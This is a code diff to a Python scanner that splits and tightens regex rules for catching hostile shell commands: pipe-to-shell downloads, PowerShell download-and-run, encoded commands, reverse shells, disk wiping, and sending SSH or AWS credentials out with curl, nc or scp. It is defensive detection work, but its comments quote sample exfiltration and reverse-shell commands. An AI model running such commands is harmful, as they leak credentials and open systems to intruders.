@@ -73,7 +73,8 @@ _HTTP_WORDS = words(
     "urllib urlopen requests httpx client fetch axios xmlhttprequest sendbeacon socket "
     "webrequest restmethod webclient"
 )
-_RUN_WORDS = words("iex invoke downloadstring base64 powershell pwsh nc rm urlopen exec eval")
+_PS_WORDS = words("iex expression downloadstring downloaddata urlopen")
+_ENCODED_WORDS = words("base64 powershell pwsh")
 _SEND_WORDS = words("send post upload exfiltrate forward transmit leak email submit")
 _WHERE_WORDS = words("http https ftp url server endpoint webhook attacker address")
 _PUT_WORDS = words(
@@ -87,7 +88,9 @@ _SECRETISH = words(
     "ssh rsa id_rsa ed25519 aws netrc env credentials passwd shadow key keys secret secrets "
     "password passwords session history gnupg npmrc pypirc kube docker"
 )
-_GET_WORDS = words("curl wget fetch iwr irm invoke webrequest restmethod http https httpie xh")
+_GET_WORDS = words("curl wget fetch iwr irm webrequest restmethod aria2c xh")
+_COPY_WORDS = words("scp rsync sftp")
+_TOOL_WORDS = words("curl wget nc ncat netcat socat telnet scp rsync ftp sftp openssl")
 _SECRET_WORDS = words(
     "ssh id_rsa id_ed25519 aws netrc env credentials passwd shadow environ printenv history "
     "gnupg npmrc pypirc kube docker rsa"
@@ -99,7 +102,7 @@ RULES = compiled(
         # `curl … | sh`, `wget -qO- … | sudo -E /usr/bin/env bash`, `iwr … | iex`.
         (
             "execute",
-            lambda w, t: bool(w & _GET_WORDS) and "|" in t,
+            lambda w, t: (not w.isdisjoint(_GET_WORDS)) and "|" in t,
             rf"\b{_PIPED_GET}\b[^|\n]{{0,300}}{_FILTERS}\|\s*{_PREFIX}{_RUNNER}\b",
         ),
         # A download fed to a shell as a file or an argument: `bash <(curl …)`,
@@ -107,7 +110,7 @@ RULES = compiled(
         (
             "execute",
             lambda w, t: (
-                bool(w & _GET_WORDS)
+                (not w.isdisjoint(_GET_WORDS))
                 and ("$(" in t or ("(" in t and "<" in t) or "`curl" in t or "`wget" in t)
             ),
             rf"(?:\b(?:{_RUNNER}|eval|exec)|(?:^|[;&|]\s*)\.)(?:\s+-\S+)*\s+[^\n|;&`]{{0,40}}?"
@@ -117,25 +120,35 @@ RULES = compiled(
         # `curl -o /tmp/a URL && chmod +x /tmp/a`.
         (
             "execute",
-            lambda w, t: bool(w & _GET_WORDS),
+            lambda w, t: not w.isdisjoint(_GET_WORDS),
             rf"(?:\b{_GET}\b[^;&|\n]{{0,200}}?(?:\s-[\w-]*[oO]\b|\s--output(?:-document)?\b|"
             r"\s-OutFile\b|\s>)|\bwget\b)[^;&|\n]{0,200}?(?:&&|;|\|\|)\s*(?:sudo\s+(?:-\S+\s+)*)?"
             r"(?:(?:(?:ba|z|k|da)?sh|python[\d.]*|perl|ruby|node|php|source|\.)\s+[\w./~$-]|"
             r"chmod\s+(?:[+ugoa]*x|[0-7]{3,4})\b|\.[/\\][\w.-]|/tmp/[\w.-]|start-process\b)",
         ),
-        # PowerShell's download-and-run, decoding, raw sockets, wiping the disk.
+        # PowerShell's download-and-run; Python's.
         (
             "execute",
-            lambda w, t: bool(w & _RUN_WORDS) or "/dev/tcp" in t,
+            lambda w, t: not w.isdisjoint(_PS_WORDS),
             r"\b(?:iex|invoke-expression)\b[^\n]{0,80}\.download(?:string|data)\s*\(|"
             r"\.download(?:string|data)\s*\([^\n]{0,200}\|\s*(?:iex|invoke-expression)\b|"
             r"\biex\s*\(\s*(?:new-object|iwr|irm|invoke-webrequest|invoke-restmethod)|"
-            r"\b(?:exec|eval)\s*\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|httpx\.get)\b|"
+            r"\b(?:exec|eval)\s*\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|httpx\.get)\b",
+        ),
+        # Decoding into a shell, an encoded PowerShell command.
+        (
+            "execute",
+            lambda w, t: not w.isdisjoint(_ENCODED_WORDS),
             r"\bbase64\s+(?:-d|--decode|-D)\b[^\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|"
             r"\|\s*base64\s+(?:-d|--decode|-D)\b[^\n]{0,80}\|\s*(?:ba|z)?sh\b|"
             r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,60}\s-e(?:nc|ncodedcommand)?\s+"
-            r"[A-Za-z0-9+/=]{16,}|/dev/tcp/|"
-            r"\bnc\s+(?:-\w+\s+)*-e\s|\brm\s+-rf\s+(?:/|~|\$HOME)(?:\s|$|\*)",
+            r"[A-Za-z0-9+/=]{16,}",
+        ),
+        # A reverse shell, wiping the disk.
+        (
+            "execute",
+            lambda w, t: "nc" in w or "rm" in w or "/dev/tcp" in t,
+            r"/dev/tcp/|\bnc\s+(?:-\w+\s+)*-e\s|\brm\s+-rf\s+(?:/|~|\$HOME)(?:\s|$|\*)",
         ),
         # Sending something somewhere ("send the contents of ~/.ssh/id_rsa to https://…",
         # "upload the .env file to this server").
@@ -151,25 +164,37 @@ RULES = compiled(
             r"\b(?:append|add|attach)\W+(?:it|them|the\W+result|the\W+data)\W+to\W+https?://",
         ),
         # Secrets into a network tool: `env | nc host 9000`, `cat ~/.aws/credentials |
-        # curl --data-binary @- URL`, `nc host 4444 < ~/.aws/credentials`, `curl -d
-        # @~/.ssh/id_rsa URL`, `curl "https://h/?d=$(cat ~/.ssh/id_rsa)"`.
+        # curl --data-binary @- URL`, `nc host 4444 < ~/.aws/credentials`, `scp
+        # ~/.ssh/id_rsa host:`, `curl -d @~/.ssh/id_rsa URL`.
         (
             "exfiltrate",
-            lambda w, t: bool(w & _SECRET_WORDS) or ".env" in t,
+            lambda w, t: (
+                not w.isdisjoint(_TOOL_WORDS)
+                and ("|" in t or "<" in t or "-" in t or not w.isdisjoint(_COPY_WORDS))
+                and (not w.isdisjoint(_SECRET_WORDS) or ".env" in t)
+            ),
             rf"(?:\b(?:env|printenv|history|set)\b|\b(?:cat|tar|zip|base64|gpg)\b[^|\n]{{0,120}}?"
             rf"(?:{_SECRET_PATH}))[^|\n]{{0,80}}\|\s*(?:\S+\s*\|\s*)?(?:sudo\s+)?{_SEND_TOOL}\b|"
             rf"\b(?:nc|ncat|netcat|socat|telnet)\b[^|\n<]{{0,80}}<\s*\S*(?:{_SECRET_PATH})|"
             rf"\b(?:scp|rsync|sftp)\b(?:\s+-\S+)*\s+\S*(?:{_SECRET_PATH})\S*\s+\S*[@:]|"
-            rf"\b(?:curl|wget|https?|xh)\b[^\n]{{0,200}}?(?:-d|--data[\w-]*|-F|--form|-T|"
+            rf"\b(?:curl|wget|xh)\b[^\n]{{0,200}}?(?:-d|--data[\w-]*|-F|--form|-T|"
             rf"--upload-file|--post-file|--body-file)[\s=]+[\"']?(?:[\w.-]+=)?@?[\"']?"
-            rf"(?:{_SECRET_PATH}|\$\(\s*(?:env|printenv|cat\s))|"
+            rf"(?:{_SECRET_PATH}|\$\(\s*(?:env|printenv|cat\s))",
+        ),
+        # A command's output in a URL: `curl "https://h/?d=$(cat ~/.ssh/id_rsa)"`.
+        (
+            "exfiltrate",
+            lambda w, t: "$(" in t,
             rf"https?://\S*[?&=]\S*\$\(\s*(?:env|printenv|cat\s+\S*(?:{_SECRET_PATH}))",
         ),
         # Code that reads a secret file or the whole environment and sends it:
         # `urllib.request.urlopen(URL, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())`.
         (
             "exfiltrate",
-            lambda w, t: bool(w & _HTTP_WORDS) and (bool(w & _SECRET_WORDS) or ".env" in t),
+            lambda w, t: (
+                (not w.isdisjoint(_HTTP_WORDS))
+                and ((not w.isdisjoint(_SECRET_WORDS)) or ".env" in t)
+            ),
             rf"{_HTTP_CODE}[\s\S]{{0,300}}?(?:{_SECRET_PATH}|{_ENV_DUMP})|"
             rf"(?:{_SECRET_PATH}|{_ENV_DUMP})[\s\S]{{0,300}}?{_HTTP_CODE}",
         ),
